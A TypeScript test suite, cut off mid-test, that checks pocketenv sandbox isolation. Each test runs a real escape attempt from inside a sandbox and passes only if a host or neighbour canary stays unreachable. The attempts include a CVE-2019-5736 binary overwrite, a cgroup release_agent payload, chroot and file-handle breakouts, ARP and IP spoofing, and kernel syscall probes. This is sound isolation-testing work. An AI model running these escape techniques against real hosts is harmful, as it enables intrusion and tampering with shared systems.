/**
 * Escape suite: distinct attempts, run from INSIDE real sandboxes (exec through the server's
 * API), to reach what belongs to the host or to another sandbox. Each attempt is one test
 * that passes only when the escape failed. To make "failed" mean something, every attempt
 * looks for a secret it can only know by getting out: a random canary written on the host
 * (in /tmp and in the server's data directory), a random marker served by a host listener or
 * by a neighbour sandbox, or a host value checked before and after (core_pattern, hostname,
 * the runtime binary's hash…). Positive controls prove the canaries are really reachable
 * from where they should be (the host reaches the neighbour's port, etc.).
 *
 * Prints `N attempts, 0 escapes` (plus the attempts that could not apply, if any).
 */
import { createHash, randomBytes } from 'node:crypto';
import dgram from 'node:dgram';
import fs from 'node:fs/promises';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { spawn, type ChildProcess } from 'node:child_process';
import { gunzipSync, gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LocalProvider } from '@pocketenv/runtime';
import { startTestServer, type TestServer } from '@pocketenv/server/testing';
import { Api } from '../helpers';
import { figure, hostRead, markerServiceCommand, run, tcpTry, waitForBanner } from './support';

const CANARY = `pocketenv-canary-${randomBytes(12).toString('hex')}`;
const NEIGHBOUR_MARKER = `neighbour-${randomBytes(12).toString('hex')}`;
const SPOOF_MARKER = `spoof-${randomBytes(12).toString('hex')}`;

let server: TestServer;
let provider: LocalProvider;
let api: Api;
/** The attacker sandbox and its neighbour. */
let A: string;
let B: string;
let bIp: string;
let aGateway: string;
let hostCanaryDir: string;
let hostAddresses: string[];
let hostTcp: net.Server;
let hostTcpPort: number;
let hostUdp: dgram.Socket;
let hostUdpPort: number;
const udpReceived: string[] = [];
let hostSleeper: ChildProcess;
const sleeperArgv0 = `pocketenv-host-proc-${randomBytes(6).toString('hex')}`;
/** Sandboxes created directly on the provider (volume attempts); removed in afterAll. */
const directSandboxes: string[] = [];

const results = { attempts: 0, escapes: 0, notApplicable: [] as string[] };
/**
 * POCKETENV_ESCAPE_ISOLATION=gvisor runs every attacker sandbox at the gvisor level (the
 * neighbour stays standard); escape-gvisor.test.ts runs the raw-kernel attacks at both levels.
 */
const ATTACKER = process.env.POCKETENV_ESCAPE_ISOLATION ? { isolation: process.env.POCKETENV_ESCAPE_ISOLATION } : {};

/** One escape attempt = one test; an assertion failure is counted as an escape. */
function attempt(name: string, fn: () => Promise<void>, timeoutMs = 60_000): void {
  results.attempts++;
  it(name, async () => {
    try {
      await fn();
    } catch (err) {
      results.escapes++;
      throw err;
    }
  }, timeoutMs);
}

async function sh(id: string, command: string, timeoutMs = 30_000): Promise<{ stdout: string; stderr: string; exitCode: number; all: string }> {
  const r = await api.exec(id, command, { timeoutMs });
  return { ...r, all: `${r.stdout}\n${r.stderr}` };
}

/** Runs a Python script inside the sandbox (the base image ships python3). */
function py(id: string, script: string, timeoutMs?: number) {
  return sh(id, `python3 - <<'PY'\nimport os, sys, socket, ctypes, errno, struct\n${script}\nPY`, timeoutMs);
}

/** A syscall from inside, by number for this architecture: prints `ret errno`. */
const SYSCALLS: Record<string, Record<string, number>> = {
  x64: { init_module: 175, finit_module: 313, add_key: 248, keyctl: 250, request_key: 249, bpf: 321, perf_event_open: 298, open_by_handle_at: 304, reboot: 169, kexec_load: 246, ptrace: 101 },
  arm64: { init_module: 105, finit_module: 273, add_key: 217, keyctl: 219, request_key: 218, bpf: 280, perf_event_open: 241, open_by_handle_at: 265, reboot: 142, kexec_load: 104, ptrace: 117 },
};
const NR = SYSCALLS[process.arch] ?? SYSCALLS.x64!;
/** Python expression: eth0's MAC, from netlink (gVisor's /sys has no /sys/class/net/eth0/address). */
const MY_MAC_PY = "bytes.fromhex(__import__('re').search(r'link/ether ([0-9a-f:]+)', __import__('subprocess').run(['ip', '-o', 'link', 'show', 'eth0'], capture_output=True, text=True).stdout).group(1).replace(':', ''))";
const LIBC = `libc = ctypes.CDLL(None, use_errno=True)\ndef sc(nr, *a):\n    r = libc.syscall(nr, *a)\n    return r, ctypes.get_errno()\n`;

function sha256(file: string): Promise<string> {
  return fs.readFile(file).then((b) => createHash('sha256').update(b).digest('hex'));
}

async function binaryPath(name: string): Promise<string> {
  const r = await run('sh', ['-c', `command -v ${name}`]);
  return r.stdout.trim();
}

beforeAll(async () => {
  hostCanaryDir = await fs.mkdtemp(path.join(os.tmpdir(), 'pocketenv-escape-'));
  await fs.writeFile(path.join(hostCanaryDir, 'canary.txt'), CANARY);

  hostTcp = net.createServer((c) => c.end(`HOST ${CANARY}\n`));
  await new Promise<void>((r) => hostTcp.listen(0, '0.0.0.0', r));
  hostTcpPort = (hostTcp.address() as net.AddressInfo).port;
  hostUdp = dgram.createSocket('udp4');
  hostUdp.on('message', (m) => udpReceived.push(m.toString()));
  await new Promise<void>((r) => hostUdp.bind(0, '0.0.0.0', r));
  hostUdpPort = hostUdp.address().port;
  hostAddresses = Object.values(os.networkInterfaces())
    .flat()
    .filter((a): a is os.NetworkInterfaceInfo => !!a && a.family === 'IPv4' && !a.internal && !a.address.startsWith('10.201.'))
    .map((a) => a.address);
  hostSleeper = spawn('sleep', ['3600'], { argv0: sleeperArgv0, stdio: 'ignore' });

  const dataDir = await fs.mkdtemp(path.join(os.tmpdir(), 'pocketenv-escape-data-'));
  provider = new LocalProvider({ stateDir: path.join(dataDir, 'runtime', 'local') });
  server = await startTestServer({ dataDir, providers: [provider], log: false });
  api = new Api(server.url, server.ownerToken);
  await fs.writeFile(path.join(server.dataDir, 'canary.txt'), CANARY, { mode: 0o600 });

  [A, B] = await Promise.all([api.create(ATTACKER).then((s) => s.id as string), api.create({}).then((s) => s.id as string)]);
  bIp = (await sh(B, "ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1")).stdout.trim();
  aGateway = (await sh(A, "ip -4 route show default | awk '{print $3}'")).stdout.trim();
  // The neighbour: a secret in its filesystem and a TCP service on all its addresses.
  await sh(B, `echo ${NEIGHBOUR_MARKER} > /root/neighbour-secret`);
  await sh(B, markerServiceCommand(NEIGHBOUR_MARKER, 8080));
  await waitForBanner(bIp, 8080, NEIGHBOUR_MARKER);
}, 300_000);

afterAll(async () => {
  hostSleeper?.kill('SIGKILL');
  hostTcp?.close();
  hostUdp?.close();
  for (const id of directSandboxes) await provider.delete(id).catch(() => undefined);
  const dataDir = server?.dataDir;
  await server?.close();
  if (dataDir) await fs.rm(dataDir, { recursive: true, force: true });
  await fs.rm(hostCanaryDir, { recursive: true, force: true });
  const na = results.notApplicable.length ? ` (${results.notApplicable.length} not applicable: ${results.notApplicable.join('; ')})` : '';
  figure('escape', `${results.attempts} attempts, ${results.escapes} escapes${na}${ATTACKER.isolation ? ` (attackers at isolation ${ATTACKER.isolation})` : ''}`);
});

describe('positive controls (the canaries are real)', () => {
  it('the host reaches the neighbour sandbox service and its own listener', async () => {
    expect(await hostRead(bIp, 8080)).toContain(NEIGHBOUR_MARKER);
    expect(await hostRead('127.0.0.1', hostTcpPort)).toContain(CANARY);
    expect((await sh(B, 'cat /root/neighbour-secret')).stdout).toContain(NEIGHBOUR_MARKER);
    expect(aGateway).toMatch(/^10\.201\.\d+\.\d+$/);
  });
});

describe('host files', () => {
  attempt('read the server data directory (token.json, keys, database, canary) by its host path', async () => {
    const d = server.dataDir;
    const r = await sh(A, `cat ${d}/canary.txt ${d}/token.json ${d}/keys/box.json; head -c 64 ${d}/pocketenv.db; ls -la ${d}`);
    expect(r.all).not.toContain(CANARY);
    expect(r.all).not.toContain(server.ownerToken);
    expect(r.all).not.toContain('SQLite format 3');
  });

  attempt('find the data directory anywhere in the sandbox filesystem', async () => {
    const r = await sh(A, `find / -xdev \\( -name token.json -o -name box.json -o -name pocketenv.db -o -name canary.txt \\) 2>/dev/null | head; grep -rs ${CANARY} /etc /root /tmp /var /workspace /run 2>/dev/null | head -3`);
    expect(r.all).not.toContain(CANARY);
    expect(r.stdout).not.toMatch(/token\.json|box\.json|pocketenv\.db/);
  });

  attempt("read another sandbox's upper layer by its host path", async () => {
    const upper = path.join(server.dataDir, 'runtime/local/sandboxes', B, 'upper/root/neighbour-secret');
    const r = await sh(A, `cat ${upper}; cat /run/pocketenv/rootfs/${B}/root/neighbour-secret; find / -xdev -name neighbour-secret 2>/dev/null`);
    expect(r.all).not.toContain(NEIGHBOUR_MARKER);
  });

  attempt('read host files through /proc/1/root and every /proc/<pid>/root', async () => {
    const rel = path.join(hostCanaryDir, 'canary.txt');
    const r = await sh(A, `for p in /proc/[0-9]*; do cat $p/root${rel} $p/cwd/../../../..${rel} 2>/dev/null; done; ls /proc/1/root${server.dataDir} 2>&1`);
    expect(r.all).not.toContain(CANARY);
  });

  attempt('read a host /tmp canary by its path', async () => {
    const r = await sh(A, `cat ${hostCanaryDir}/canary.txt; ls ${hostCanaryDir}`);
    expect(r.all).not.toContain(CANARY);
  });

  attempt('chroot breakout (double chroot, walk up with ..)', async () => {
    const r = await py(A, `
os.makedirs('/tmp/jail', exist_ok=True)
real = os.open('/', os.O_RDONLY)
os.chroot('/tmp/jail')
os.fchdir(real)
for _ in range(64): os.chdir('..')
os.chroot('.')
for p in ['${hostCanaryDir}/canary.txt', '${server.dataDir}/canary.txt']:
    try: print(open(p).read())
    except Exception as e: print('no', p, e)
`);
    expect(r.all).not.toContain(CANARY);
  });

  attempt('open_by_handle_at ("shocker") to open a host inode', async () => {
    const r = await py(A, `${LIBC}
fd = os.open('/', os.O_RDONLY)
buf = struct.pack('IiQ', 8, 1, 2)  # handle_bytes, FILEID_INO32_GEN, inode 2 (a root dir)
h = ctypes.create_string_buffer(buf, len(buf))
print('RESULT', *sc(${NR.open_by_handle_at}, fd, h, os.O_RDONLY))
`);
    const [ret] = /RESULT (-?\d+) (\d+)/.exec(r.stdout)!.slice(1).map(Number);
    expect(ret).toBeLessThan(0);
  });

  attempt('leaked file descriptors: reach a host file relative to any open fd of any sandbox process', async () => {
    const rel = path.relative('/', path.join(hostCanaryDir, 'canary.txt'));
    const r = await py(A, `
hits = []
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    try: fds = os.listdir(f'/proc/{pid}/fd')
    except Exception: continue
    for fd in fds:
        p = f'/proc/{pid}/fd/{fd}'
        try: target = os.readlink(p)
        except Exception: continue
        if target.startswith('${server.dataDir}') or target.startswith('/run/pocketenv') or 'runtime/local' in target: hits.append(target)
        if os.path.isdir(p):
            c = os.path.join(p, *(['..'] * 40), '${rel}')
            try: hits.append(open(c).read())
            except Exception: pass
import json
print('HITS', json.dumps(hits))
`);
    expect(r.all).not.toContain(CANARY);
    expect(JSON.parse(/HITS (.*)/.exec(r.stdout)![1]!)).toEqual([]);
  });

  attempt("steal the init's open file descriptors (pidfd_getfd) and write through them to the host", async () => {
    const marker = `fd-steal-${randomBytes(6).toString('hex')}`;
    const r = await py(A, `${LIBC}
for target in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    pidfd, e = sc(434, target, 0)  # pidfd_open (same number on x86_64 and arm64)
    if pidfd < 0: continue
    for n in range(0, 16):
        fd, e = sc(438, pidfd, n, 0)  # pidfd_getfd
        if fd >= 0:
            try:
                os.write(fd, b'${marker}\\n'); print('WROTE', target, n, os.readlink(f'/proc/self/fd/{fd}'))
            except OSError: pass
`);
    const sandboxDir = path.join(server.dataDir, 'runtime/local/sandboxes', A);
    const hostFiles = await fs.readdir(sandboxDir).catch(() => [] as string[]);
    for (const f of hostFiles) {
      const content = await fs.readFile(path.join(sandboxDir, f), 'utf8').catch(() => '');
      expect(content, f).not.toContain(marker);
    }
    expect(r.stdout).not.toMatch(new RegExp(`WROTE .*(${server.dataDir}|runtime\\.log)`));
  });

  attempt('the exec shell inherits no file descriptor beyond stdin/stdout/stderr', async () => {
    // No pipeline here: the shell would hold the pipe's fds itself while `ls` looks.
    const r = await sh(A, 'ls -1 /proc/$$/fd');
    expect(r.stdout.trim().split(/\s+/).map(Number).sort((x, y) => x - y)).toEqual([0, 1, 2]);
  });
});

describe('host-provided bind mounts', () => {
  attempt('overwrite the host init binary mounted at /dev/init', async () => {
    const host = await binaryPath('catatonit');
    const before = await sha256(host);
    await sh(A, 'echo pwned > /dev/init; cp /bin/true /dev/init; mount -o remount,rw /dev/init; echo pwned > /dev/init');
    expect(await sha256(host)).toBe(before);
  });

  attempt('overwrite the host resolv.conf and CA bundle through their bind mounts', async () => {
    const [r1, r2] = await Promise.all([sha256('/etc/resolv.conf'), sha256('/etc/ssl/certs/ca-certificates.crt')]);
    await sh(A, 'echo nameserver 6.6.6.6 > /etc/resolv.conf; echo x >> /etc/ssl/certs/ca-certificates.crt; rm -f /etc/resolv.conf; umount /etc/resolv.conf');
    expect(await sha256('/etc/resolv.conf')).toBe(r1);
    expect(await sha256('/etc/ssl/certs/ca-certificates.crt')).toBe(r2);
  });

  attempt('/proc/self/exe: overwrite the runtime binary while it executes into the sandbox (CVE-2019-5736)', async () => {
    const crun = await binaryPath((await provider.runtimeName()));
    const before = await sha256(crun);
    const X = (await api.create(ATTACKER)).id as string;
    // A watcher writes to every /proc/<pid>/exe it can open, while /bin/sh becomes a script
    // whose interpreter is /proc/self/exe: the next exec runs the runtime's own binary as the interpreter.
    await sh(X, `cat > /tmp/watch.py <<'PY'
import os, time
end = time.time() + 8
log = open('/tmp/exe-log', 'w')
while time.time() < end:
    for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
        try:
            fd = os.open(f'/proc/{pid}/exe', os.O_WRONLY)
            os.write(fd, b'PWNED'); log.write(f'WROTE {pid} {os.readlink("/proc/%s/exe" % pid)}\\n'); log.flush()
        except OSError: pass
PY
setsid -f python3 /tmp/watch.py >/dev/null 2>&1 </dev/null
rm /bin/sh && printf '#!/proc/self/exe\\n' > /bin/sh && chmod +x /bin/sh`);
    for (let i = 0; i < 3; i++) await api.procedure('io.pocketenv.sandbox.exec', { id: X }, { command: 'true', timeoutMs: 5000 });
    await new Promise((r) => setTimeout(r, 1000));
    expect(await sha256(crun)).toBe(before);
    const log = (await provider.readFile(X, '/tmp/exe-log').catch(() => Buffer.from(''))).toString();
    // Writing a sandbox-owned binary is fine; writing anything of the host's is not.
    expect(log).not.toMatch(/WROTE .*(crun|runc|memfd)/);
    await api.delete(X);
  });
});

describe('the exec agent socket (host connects to a path the sandbox can write)', () => {
  attempt("swap the exec agent's socket for a symlink to a host unix socket", async () => {
    const hostSock = path.join(hostCanaryDir, 'host.sock');
    let connections = 0;
    const listener = net.createServer((c) => {
      connections++;
      c.destroy();
    });
    await new Promise<void>((r) => listener.listen(hostSock, r));
    const X = (await api.create(ATTACKER)).id as string;
    try {
      await sh(X, `for s in /dev/pocketenv/*; do rm -f "$s"; ln -s ${hostSock} "$s"; done; ln -sf ${hostSock} /dev/pocketenv/agent.sock; ls -la /dev/pocketenv/`);
      for (let i = 0; i < 3; i++) await api.procedure('io.pocketenv.sandbox.exec', { id: X }, { command: 'echo after' });
      expect(connections).toBe(0);
    } finally {
      listener.close();
      await api.delete(X);
    }
  });
});

describe('network', () => {
  attempt("reach a host service on the sandbox's gateway address", async () => {
    const r = await py(A, tcpTry(aGateway, hostTcpPort));
    expect(r.all).not.toContain(CANARY);
  });

  attempt("reach a host service on the host's own addresses", async () => {
    expect(hostAddresses.length).toBeGreaterThan(0);
    const r = await py(A, hostAddresses.map((h) => tcpTry(h, hostTcpPort)).join(''));
    expect(r.all).not.toContain(CANARY);
  });

  attempt("reach the API server's port (host loopback) via gateway and host addresses", async () => {
    const targets = [aGateway, ...hostAddresses, '127.0.0.1'];
    const r = await sh(A, targets.map((h) => `curl -s -m 2 http://${h}:${server.port}/xrpc/io.pocketenv.server.describeServer; echo " rc=$?"`).join('; '));
    expect(r.all).not.toContain('publicKey');
  });

  attempt('reach host databases and SSH (5432, 3306, 6379, 27017, 22) on gateway and host addresses', async () => {
    const r = await py(A, [aGateway, ...hostAddresses].flatMap((h) => [5432, 3306, 6379, 27017, 22].map((p) => tcpTry(h, p))).join(''), 60_000);
    expect(r.stdout).not.toContain('CONNECTED');
  }, 90_000);

  attempt("reach another sandbox's address", async () => {
    const r = await py(A, tcpTry(bIp, 8080));
    expect(r.all).not.toContain(NEIGHBOUR_MARKER);
  });

  attempt('take another address on the veth (ip addr add / change the MAC)', async () => {
    const r = await sh(A, `ip addr add ${bIp}/32 dev eth0; echo rc=$?; ip link set eth0 address 02:00:00:00:00:01; echo rc=$?; ip -4 -o addr show eth0`);
    expect(r.stdout).not.toContain(`${bIp}/32`);
    expect(r.stdout).not.toMatch(/rc=0/);
  });

  attempt('raw socket: spoofed UDP (source = the neighbour) to the host and the neighbour', async () => {
    const payload = `${SPOOF_MARKER}`;
    const r = await py(A, `
def csum(b):
    if len(b) % 2: b += b'\\0'
    s = sum(struct.unpack('!%dH' % (len(b)//2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
def packet(src, dst, dport, data):
    udp = struct.pack('!HHHH', 40000, dport, 8 + len(data), 0) + data
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
    return ip + udp
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for dst in ['${aGateway}', ${hostAddresses.map((h) => `'${h}'`).join(', ')}]:
    for src in ['${bIp}', '${aGateway}', '127.0.0.1']:
        try: s.sendto(packet(src, dst, ${hostUdpPort}, b'${payload}'), (dst, 0)); print('sent', src, dst)
        except Exception as e: print('fail', src, dst, e)
`);
    await new Promise((res) => setTimeout(res, 500));
    expect(r.stdout + r.stderr).toBeDefined();
    expect(udpReceived.filter((m) => m.includes(SPOOF_MARKER))).toEqual([]);
  });

  attempt("packet socket: a frame to the host's loopback (127.0.0.1) through the gateway MAC", async () => {
    const r = await py(A, `
def csum(b):
    s = sum(struct.unpack('!%dH' % (len(b)//2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16
    return ~s & 0xffff
try: socket.create_connection(('${aGateway}', 9), timeout=0.5)
except Exception: pass
gwmac = None
for line in open('/proc/net/arp').read().splitlines()[1:]:
    f = line.split()
    if f[0] == '${aGateway}': gwmac = bytes.fromhex(f[3].replace(':', ''))
mymac = ${MY_MAC_PY}
data = b'${SPOOF_MARKER}'
udp = struct.pack('!HHHH', 40001, ${hostUdpPort}, 8 + len(data), 0) + data
for src, dst in [('${aGateway.replace(/\.\d+$/, '.2')}', '127.0.0.1'), ('127.0.0.1', '127.0.0.1')]:
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 2, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
    try:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        s.bind(('eth0', 0))
        print('gwmac', gwmac and gwmac.hex(), 'sent', s.send((gwmac or b'\\xff'*6) + mymac + b'\\x08\\x00' + ip + udp))
    except OSError as e: print('REFUSED', e)
`);
    await new Promise((res) => setTimeout(res, 500));
    if (r.stdout.includes('REFUSED')) results.notApplicable.push(`packet socket: the sandbox's kernel refuses packet writes (${r.stdout.trim().split('\n').pop()})`);
    else expect(r.stdout).toContain('gwmac');
    expect(udpReceived.filter((m) => m.includes(SPOOF_MARKER))).toEqual([]);
  });

  attempt('ARP spoofing on the veth: claim the neighbour and the gateway, then the host still reaches the neighbour', async () => {
    const r = await py(A, `
mymac = ${MY_MAC_PY}
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(('eth0', 0))
except OSError as e: print('REFUSED', e); sys.exit(0)
for claimed in ['${bIp}', '${aGateway}']:
    arp = struct.pack('!HHBBH6s4s6s4s', 1, 0x0800, 6, 4, 2, mymac, socket.inet_aton(claimed), b'\\xff'*6, socket.inet_aton(claimed))
    try:
        for _ in range(5): s.send(b'\\xff'*6 + mymac + b'\\x08\\x06' + arp)
    except OSError as e: print('REFUSED', e); break
else: print('sent')
`);
    if (r.stdout.includes('REFUSED')) results.notApplicable.push(`ARP spoofing: the sandbox's kernel refuses packet writes (${r.stdout.trim()})`);
    else expect(r.stdout).toContain('sent');
    expect(await hostRead(bIp, 8080)).toContain(NEIGHBOUR_MARKER);
    const neigh = await run('ip', ['neigh', 'show', bIp]);
    const aMac = (await py(A, `print(${MY_MAC_PY}.hex(':'))`)).stdout.trim();
    expect(neigh.stdout).not.toContain(aMac);
  });

  attempt('IPv6: reach the host over link-local or any v6 address', async () => {
    const r = await sh(A, `ip -6 addr add fe80::6666/64 dev eth0 2>&1; ping -6 -c1 -W1 ff02::1%eth0 2>&1; curl -s -m 2 "http://[fe80::1%eth0]:${hostTcpPort}/" 2>&1; echo done`);
    expect(r.all).not.toContain(CANARY);
  });
});

describe('kernel and devices', () => {
  attempt('mount filesystems (tmpfs, proc, remount /proc/sys and /sys read-write)', async () => {
    const r = await sh(A, 'mount -t tmpfs none /mnt && echo MOUNTED-tmpfs; mount -t proc proc /mnt && echo MOUNTED-proc; mount -o remount,rw /proc/sys && echo MOUNTED-procsys; mount -o remount,rw /sys && echo MOUNTED-sys; mount -t sysfs sysfs /mnt && echo MOUNTED-sysfs; true');
    expect(r.stdout).not.toMatch(/MOUNTED/);
  });

  attempt("create a block device for the host's disk and read or mount it", async () => {
    const st = await run('stat', ['-c', '%t %T', '/proc/self/root/dev/vda']).then((x) => (x.code === 0 ? x : run('sh', ['-c', "stat -c '%t %T' $(findmnt -no SOURCE /)"])));
    const [maj, min] = st.stdout.trim().split(/\s+/).map((h) => parseInt(h, 16));
    const r = await sh(A, `mknod /tmp/hd b ${maj} ${min}; dd if=/tmp/hd bs=4096 count=1 2>/dev/null | wc -c; mkdir -p /tmp/m; mount /tmp/hd /tmp/m && echo MOUNTED && cat /tmp/m${hostCanaryDir}/canary.txt; unshare -Urm sh -c 'mount /tmp/hd /tmp/m && echo MOUNTED'; true`);
    expect(r.stdout.trim().split('\n')[0]).toBe('0');
    expect(r.all).not.toContain('MOUNTED');
    expect(r.all).not.toContain(CANARY);
  });

  attempt('create and open /dev/mem, /dev/kmsg and /dev/kvm', async () => {
    // mknod itself is allowed (as in Docker); the device cgroup must refuse opening them.
    const r = await sh(A, 'mknod /tmp/mem c 1 1; mknod /tmp/kmsg c 1 11; mknod /tmp/kvm c 10 232; for d in mem kmsg kvm; do [ -c /tmp/$d ] || { echo NOT-A-DEVICE-$d; continue; }; head -c 16 /tmp/$d >/dev/null 2>&1 && echo OPENED-$d; (echo x > /tmp/$d) 2>/dev/null && echo WROTE-$d; done; true');
    expect(r.stdout).not.toMatch(/OPENED|WROTE/);
  });

  attempt('load a kernel module (init_module / finit_module / modprobe)', async () => {
    const r = await py(A, `${LIBC}
fd = os.open('/bin/true', os.O_RDONLY)
print('RESULT', *sc(${NR.finit_module}, fd, b'', 0))
buf = ctypes.create_string_buffer(b'\\x7fELF' + b'\\0' * 60)
print('RESULT', *sc(${NR.init_module}, buf, 64, b''))
`);
    for (const m of r.stdout.matchAll(/RESULT (-?\d+) (\d+)/g)) expect(Number(m[1])).toBeLessThan(0);
    expect([...r.stdout.matchAll(/RESULT/g)].length).toBe(2);
  });

  attempt('write /proc/sys (core_pattern, modprobe path, sysrq)', async () => {
    // /proc/sys/kernel/modprobe is absent on kernels built without modules.
    const knobs = ['/proc/sys/kernel/core_pattern', '/proc/sys/kernel/modprobe'];
    const read = () => Promise.all(knobs.map((f) => fs.readFile(f, 'utf8').catch(() => 'absent')));
    const before = await read();
    try {
      const r = await sh(A, `echo '|/tmp/pwn' > /proc/sys/kernel/core_pattern && echo WROTE; echo /tmp/pwn > /proc/sys/kernel/modprobe && echo WROTE; echo h > /proc/sysrq-trigger && echo WROTE; echo 3 > /proc/sys/vm/drop_caches && echo WROTE; true`);
      expect(r.stdout).not.toContain('WROTE');
    } finally {
      const after = await read();
      for (let i = 0; i < knobs.length; i++) if (after[i] !== before[i]) await fs.writeFile(knobs[i]!, before[i]!);
      expect(after).toEqual(before);
    }
  });

  attempt('write /sys (kernel knobs, cgroup limits of the sandbox itself)', async () => {
    const hostLimit = await fs.readFile(`/sys/fs/cgroup/memory/pocketenv/${A}/memory.limit_in_bytes`, 'utf8').catch(() => 'n/a');
    const r = await sh(A, 'echo always > /sys/kernel/mm/transparent_hugepage/enabled && echo WROTE; echo -1 > /sys/fs/cgroup/memory/memory.limit_in_bytes && echo WROTE; echo max > /sys/fs/cgroup/pids/pids.max && echo WROTE; echo 1 > /sys/fs/cgroup/memory/notify_on_release && echo WROTE; true');
    expect(r.stdout).not.toContain('WROTE');
    expect(await fs.readFile(`/sys/fs/cgroup/memory/pocketenv/${A}/memory.limit_in_bytes`, 'utf8').catch(() => 'n/a')).toBe(hostLimit);
  });

  attempt('cgroup release_agent from a nested user namespace (CVE-2022-0492)', async () => {
    const marker = path.join(hostCanaryDir, 'release-agent-ran');
    const r = await sh(A, `cat > /tmp/payload <<'EOF'
#!/bin/sh
touch ${marker}
EOF
chmod +x /tmp/payload
unshare -UrmC --propagation=private sh -c 'mkdir -p /tmp/cg && mount -t cgroup -o memory cgroup /tmp/cg && echo MOUNTED && echo 1 > /tmp/cg/notify_on_release && echo /tmp/payload > /tmp/cg/release_agent && echo WROTE' 2>&1; true`);
    expect(r.stdout).not.toContain('WROTE');
    await new Promise((res) => setTimeout(res, 300));
    await expect(fs.stat(marker)).rejects.toThrow();
  });

  attempt('nested user+pid namespace with a fresh /proc to bypass masked paths', async () => {
    const r = await sh(A, "unshare -Urpmf --mount-proc sh -c 'head -c 16 /proc/kcore | wc -c; echo x > /proc/sys/kernel/core_pattern && echo WROTE' 2>&1; true");
    expect(r.stdout).not.toContain('WROTE');
    expect(r.stdout).not.toMatch(/^16$/m);
  });

  attempt('kernel keyrings (add_key, keyctl, request_key, /proc/keys)', async () => {
    const r = await py(A, `${LIBC}
print('RESULT', *sc(${NR.add_key}, b'user', b'pocketenv', b'secret', 6, ctypes.c_int(-3)))
print('RESULT', *sc(${NR.keyctl}, 0, ctypes.c_int(-3), 0))
print('RESULT', *sc(${NR.request_key}, b'user', b'pocketenv', None, 0))
try: print('KEYS', open('/proc/keys').read()[:200])
except Exception as e: print('nokeys', e)
`);
    for (const m of r.stdout.matchAll(/RESULT (-?\d+) (\d+)/g)) expect(Number(m[1])).toBeLessThan(0);
    expect(r.stdout).not.toMatch(/KEYS \S/);
  });

  attempt('load eBPF, open perf events, read the kernel log', async () => {
    const r = await py(A, `${LIBC}
attr = ctypes.create_string_buffer(struct.pack('IIII', 2, 4, 4, 1) + b'\\0' * 64)
print('RESULT', *sc(${NR.bpf}, 0, attr, 80))
pattr = ctypes.create_string_buffer(struct.pack('IIQ', 1, 112, 0) + b'\\0' * 104)
print('RESULT', *sc(${NR.perf_event_open}, pattr, -1, 0, -1, 0))
import subprocess
d = subprocess.run(['dmesg'], capture_output=True)
print('DMESG', d.returncode, len(d.stdout), 'gvisor-log' if b'Starting gVisor' in d.stdout else 'other')
`);
    for (const m of r.stdout.matchAll(/RESULT (-?\d+) (\d+)/g)) expect(Number(m[1])).toBeLessThan(0);
    // Refused, or (isolation gvisor) gVisor's own kernel log: never the host's.
    expect(r.stdout).toMatch(/DMESG [1-9]\d* 0 other|DMESG 0 \d+ gvisor-log/);
  });

  attempt('reboot or kexec the host; set the host clock', async () => {
    const t0 = Date.now();
    const r = await py(A, `${LIBC}
print('RESULT', *sc(${NR.reboot}, 0xfee1dead, 672274793, 0, 0))  # CAD_OFF: harmless even if allowed
print('RESULT', *sc(${NR.kexec_load}, 0, 0, None, 0))
import subprocess
print('DATE', subprocess.run(['date', '-s', '2001-01-01'], capture_output=True).returncode)
`);
    for (const m of r.stdout.matchAll(/RESULT (-?\d+) (\d+)/g)) expect(Number(m[1])).toBeLessThan(0);
    expect(r.stdout).not.toContain('DATE 0');
    expect(Math.abs(Date.now() - t0)).toBeLessThan(60_000);
    expect((await api.query('io.pocketenv.server.describeServer')).status).toBe(200);
  });

  attempt("change the host's hostname", async () => {
    const before = os.hostname();
    const r = await sh(A, 'hostname pwned-host && echo CHANGED; echo pwned-host > /proc/sys/kernel/hostname && echo CHANGED; true');
    expect(r.stdout).not.toContain('CHANGED');
    expect(os.hostname()).toBe(before);
    expect((await fs.readFile('/proc/sys/kernel/hostname', 'utf8')).trim()).toBe(before);
  });
});

describe('processes', () => {
  attempt('see or signal a host process (pid namespace)', async () => {
    const hostPid = hostSleeper.pid!;
    // The marker is split so this shell's own command line does not contain it.
    const half = sleeperArgv0.length >> 1;
    const r = await sh(A, `M1=${sleeperArgv0.slice(0, half)}; M2=${sleeperArgv0.slice(half)}; grep -l "$M1$M2" /proc/[0-9]*/cmdline 2>/dev/null; kill -STOP ${hostPid} 2>/dev/null; kill -9 ${hostPid} 2>/dev/null; ps -eo comm | grep -c . ; true`);
    expect(r.stdout).not.toContain('/cmdline');
    const state = (await fs.readFile(`/proc/${hostPid}/stat`, 'utf8')).split(' ')[2];
    expect(state).not.toBe('T');
    expect(hostSleeper.exitCode).toBeNull();
  });

  attempt('ptrace a process outside the sandbox (the host, the neighbour)', async () => {
    await sh(B, `setsid -f sleep 300 >/dev/null 2>&1 </dev/null`);
    const r = await py(A, `${LIBC}
me = os.getpid()
seen = []
for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    try: seen.append(open(f'/proc/{pid}/cmdline').read().replace('\\0', ' '))
    except Exception: pass
print('SEEN', [c for c in seen if 'SEEN' not in c])
for pid in [${hostSleeper.pid}, 1]:
    print('ATTACH', pid, *sc(${NR.ptrace}, 16, pid, 0, 0))  # PTRACE_ATTACH
`);
    expect(r.stdout).not.toContain(sleeperArgv0);
    expect(r.stdout).not.toContain('8080'); // the neighbour's listener
